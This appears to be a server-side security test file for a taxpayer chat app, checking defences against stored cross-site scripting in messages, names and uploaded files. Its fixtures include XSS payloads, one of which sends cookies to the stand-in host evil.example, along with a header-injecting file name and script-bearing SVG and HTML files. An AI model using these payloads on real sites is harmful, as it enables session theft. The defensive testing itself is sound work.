/**
 * Stored cross-site scripting (CWE-79): the class of Chatwoot's XSS through message content, contact names and
 * attachment file names in the dashboard, Rocket.Chat's Markdown-link (`javascript:`) and file-name XSS, Zammad's
 * XSS through article bodies and attachments served inline, and Mattermost's XSS via uploaded files.
 *
 * The server's part of the defence: markup the taxpayer types comes back as JSON data, exactly as typed, never as
 * HTML; file names are cleaned and downloads carry a harmless `Content-Disposition`, `nosniff` and a sandboxing CSP;
 * every response carries the app's Content-Security-Policy without inline script. (Rendering text safely is the web
 * app's part.)
 */
import type { TMessage } from '@zhengna/contracts';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningApp } from '../../src/app.ts';
import { portalUsers } from '../../src/db/schema.ts';
import {
  connected,
  connectSocket,
  emitAck,
  HttpClient,
  loginStaff,
  loginTaxpayer,
  makeStaff,
  makeTaxpayer,
  newClientId,
  openTaxpayerChat,
  startTestApp,
} from '../harness.ts';
import { download, inquiryForm, officeAgent, PNG, staffWithSocket, upload } from './attack-fixtures.ts';

const XSS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
  '[点此办理退税](javascript:alert(1))',
  '<a href="javascript:alert(1)">发票</a>',
  '<svg/onload=alert(1)>',
  '"><iframe srcdoc="<script>alert(1)</script>">',
];

let app: RunningApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app?.close();
});

const isJson = (h: Headers) => (h.get('content-type') ?? '').startsWith('application/json');

describe('markup in what people type comes back as data', () => {
  it('messages: the taxpayer, the agent and the history get the exact text as JSON', async () => {
    const tp = await openTaxpayerChat(app);
    const agent = await staffWithSocket(app);
    for (const body of XSS) {
      const sent = await tp.send(body);
      expect(sent.ok && sent.data.body).toBe(body);
    }
    const own = await tp.chat.get(`/api/chat/conversations/${tp.conversationId}/messages?limit=100`);
    expect(isJson(own.headers)).toBe(true);
    expect(own.json.messages.map((m: TMessage) => m.body)).toEqual(XSS);
    const seen = await agent.client.get(`/api/workspace/conversations/${tp.conversationId}/messages?limit=100`);
    expect(isJson(seen.headers)).toBe(true);
    expect(seen.json.messages.map((m: TMessage) => m.body)).toEqual(XSS);
    tp.socket.close();
    agent.socket.close();
  });

  it('留言: stored and shown to the taxpayer and the office exactly as typed', async () => {
    const { taxpayer, office } = await makeTaxpayer(app);
    const { client } = await officeAgent(app, office.id);
    const { chat } = await loginTaxpayer(app, taxpayer.taxpayerNo);
    const content = `${XSS.join(' ')} 发票红冲怎么办？`;
    const res = await chat.post('/api/chat/inquiries', inquiryForm(office.id, { content }));
    expect(res.status).toBe(200);
    expect(res.json.content).toBe(content);
    const mine = await chat.get(`/api/chat/inquiries/${res.json.id}`);
    expect(isJson(mine.headers)).toBe(true);
    expect(mine.json.content).toBe(content);
    const todo = (await client.get('/api/workspace/inquiries?scope=mine')).json.inquiries.find(
      (i: { id: string }) => i.id === res.json.id,
    );
    expect(todo.content).toBe(content);
  });

  it("display names: a person's name with markup is data in the message and the workspace list", async () => {
    const { taxpayer, user } = await makeTaxpayer(app);
    const name = '<img src=x onerror=alert(1)>李静';
    await app.db.update(portalUsers).set({ name }).where(eq(portalUsers.id, user.id));
    const { chat } = await loginTaxpayer(app, taxpayer.taxpayerNo);
    const conv = (await chat.get('/api/chat/conversation')).json.conversation.id as string;
    const socket = connectSocket(chat);
    await connected(socket);
    const sent = await emitAck(socket, 'message:send', { conversationId: conv, clientId: newClientId(), body: '你好' });
    expect(sent.ok && sent.data.senderName).toBe(name);
    const s = await makeStaff(app);
    const staffClient = (await loginStaff(app, s.username)).client;
    const list = await staffClient.get('/api/workspace/conversations');
    expect(isJson(list.headers)).toBe(true);
    const row = list.json.conversations.find((c: { id: string }) => c.id === conv);
    expect(row.personName).toBe(name);
    socket.close();
  });
});

describe('files', () => {
  it('a file name with markup, quotes and header tricks is cleaned, and downloads are never run', async () => {
    const tp = await openTaxpayerChat(app);
    const name = '"><img src=x onerror=alert(1)>; filename=evil.html.png';
    const up = await upload(tp.chat, `/api/chat/conversations/${tp.conversationId}/attachments`, PNG, name);
    expect(up.status).toBe(200);
    const stored = up.json.fileName as string;
    expect(stored).not.toMatch(/[<>"]/);
    expect(stored.endsWith('.png')).toBe(true);

    const got = await download(tp.chat, up.json.url);
    expect(got.status).toBe(200);
    const disposition = got.headers.get('content-disposition') ?? '';
    // one plain ASCII fallback name, the real one percent-encoded: no quote, semicolon or markup gets through raw
    expect(disposition).toMatch(/^(inline|attachment); filename="file"; filename\*=UTF-8''[A-Za-z0-9%._~!*'()-]+$/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe(stored);
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('content-security-policy')).toContain('sandbox');

    // the same for a 留言's file
    const caseFile = await upload(tp.chat, '/api/chat/inquiries/files', PNG, name);
    expect(caseFile.status).toBe(200);
    expect(caseFile.json.fileName).not.toMatch(/[<>"]/);
    const left = await tp.chat.post('/api/chat/inquiries', inquiryForm(tp.officeId, { fileIds: [caseFile.json.id] }));
    expect(left.status).toBe(200);
    const gotCase = await download(tp.chat, `/api/chat/case-files/${caseFile.json.id}`);
    expect(gotCase.status).toBe(200);
    expect(gotCase.headers.get('content-disposition')).toMatch(/^(inline|attachment); filename="file"; filename\*=/);
    expect(gotCase.headers.get('x-content-type-options')).toBe('nosniff');
    expect(gotCase.headers.get('content-security-policy')).toContain('sandbox');
    tp.socket.close();
  });

  it('an HTML or SVG file is refused, whatever its name says', async () => {
    const tp = await openTaxpayerChat(app);
    const svg = new TextEncoder().encode(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    );
    const html = new TextEncoder().encode('<!doctype html><html><script>alert(1)</script></html>');
    for (const [bytes, fileName, type] of [
      [svg, '发票.svg', 'image/svg+xml'],
      [svg, '发票.png', 'image/png'],
      [html, '说明.html', 'text/html'],
      [html, '说明.pdf', 'application/pdf'],
    ] as const) {
      const res = await upload(
        tp.chat,
        `/api/chat/conversations/${tp.conversationId}/attachments`,
        bytes,
        fileName,
        type,
      );
      expect(res.status, fileName).toBe(415);
      expect(res.json.code).toBe('FILE_TYPE_NOT_ALLOWED');
    }
    tp.socket.close();
  });
});

describe('response headers', () => {
  it('every API answer carries the CSP without inline script, nosniff, no referrer, HSTS, and no framing by strangers', async () => {
    const tp = await openTaxpayerChat(app);
    const responses = [
      await tp.chat.get('/api/chat/conversation'),
      await new HttpClient(app.url).get('/api/no-such-thing'),
      await new HttpClient(app.url).post('/api/staff/login', { username: 'x', password: 'y' }),
      await new HttpClient(app.url).get('/healthz'),
    ];
    for (const res of responses) {
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'self'");
      expect(csp).toMatch(/script-src 'self'(;|$)/);
      expect(csp).not.toContain("'unsafe-eval'");
      expect(csp).toContain("frame-ancestors 'self'");
      expect(csp).toContain("object-src 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
    }
    tp.socket.close();
  });
});
